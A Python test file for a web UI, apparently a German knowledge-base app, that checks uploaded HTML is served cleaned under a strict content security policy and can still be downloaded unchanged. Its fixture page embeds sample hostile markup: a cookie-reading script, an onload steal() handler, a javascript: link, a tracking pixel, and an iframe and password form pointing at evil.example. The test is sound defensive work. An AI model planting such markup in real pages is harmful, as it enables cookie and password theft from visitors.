"""An HTML original opens as a cleaned page (no scripts, handlers, forms, frames, images, foreign
styles) under a CSP of its own; `download=1` still saves the file as it was (SQLite, fake embedder)."""

from __future__ import annotations

from fastapi.testclient import TestClient

from webui.app import create_app

HOSTILE = """<!doctype html><html><head><meta charset="windows-1252"><title>Intranet KdU</title>
<style>body{display:none}</style><script>document.cookie</script></head>
<body onload="steal()"><h1>Mietobergrenzen Kusel</h1>
<p>Die Angemessenheit richtet sich nach der Tabelle <a href="javascript:alert(1)">hier</a>,
siehe <a href="https://www.example.org/kdu">Quelle</a>.</p>
<table><tr><th>Personen</th><th>Euro</th></tr><tr><td>1</td><td>420</td></tr></table>
<img src="https://tracker.example/pixel.gif"><iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="pw"></form><p>Gr\xfc\xdfe aus Kusel</p></body></html>
""".encode("cp1252")


def _document(kb, tmp_path) -> int:
    path = tmp_path / "kdu-intranet.html"
    path.write_bytes(HOSTILE)
    return kb.ingesting.ingest([path]).files[0].document_id


def test_an_html_original_is_shown_cleaned_under_its_own_csp(fake_kb, tmp_path, monkeypatch):
    doc = _document(fake_kb, tmp_path)
    page = TestClient(create_app(fake_kb)).get(f"/dokument/{doc}/datei")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert "attachment" not in page.headers.get("content-disposition", "")
    csp = page.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "sandbox" in csp and "script-src" not in csp
    body = page.text
    assert "Mietobergrenzen Kusel" in body and "<td>420</td>" in body and "Grüße aus Kusel" in body
    assert 'href="https://www.example.org/kdu"' in body
    for gone in ("<script", "document.cookie", "onload", "javascript:", "<iframe", "<form", "<input",
                 "tracker.example", "display:none"):
        assert gone not in body, gone
    assert f'href="/dokument/{doc}/datei?download=1"' in body


def test_download_gives_the_file_unchanged(fake_kb, tmp_path):
    doc = _document(fake_kb, tmp_path)
    saved = TestClient(create_app(fake_kb)).get(f"/dokument/{doc}/datei", params={"download": 1})
    assert saved.status_code == 200 and saved.content == HOSTILE
    assert saved.headers["content-disposition"].startswith("attachment")
